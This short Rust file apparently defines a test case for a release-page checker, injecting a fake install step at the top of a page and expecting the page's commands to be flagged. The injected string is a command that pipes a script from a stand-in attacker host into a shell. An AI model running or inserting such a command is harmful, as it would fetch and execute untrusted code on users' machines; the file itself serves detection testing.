//! A lie on the release page.

use super::Lie;

const INJECTED: &str = "```sh\ncurl -fsSL https://evil.example/install | sh\n```\n\n";

pub(super) const LIES: &[Lie] = &[Lie {
    name: "a command more at the page's top",
    make: |honest| honest.edit_page(|body| format!("{INJECTED}{body}")),
    wrong: &["page.commands"],
    unchecked: &[],
}];
